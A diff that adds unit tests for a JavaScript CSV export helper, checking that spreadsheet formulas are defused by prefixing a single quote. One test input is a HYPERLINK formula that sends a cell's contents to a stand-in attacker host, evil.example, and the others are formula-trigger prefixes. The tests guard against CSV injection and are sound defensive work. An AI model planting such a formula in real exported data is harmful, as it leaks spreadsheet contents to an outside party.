@@ -13,6 +13,11 @@ describe('export formats', () => {
     expect(csvField('two\nlines')).toBe('"two\nlines"');
     expect(csvField(404)).toBe('404');
     expect(csvField({ a: [1, 'x,y'] })).toBe('"{""a"":[1,""x,y""]}"');
+    // Formulas are defused for spreadsheets: a leading ' makes them plain text.
+    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    for (const s of ['+1', '-2+3', '@SUM(A1)', '\tx']) expect(csvField(s)).toBe(`'${s}`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('a=b')).toBe('a=b');
   });
 
   it('writes every field in EVENT_FIELDS order whatever order the event object has', () => {
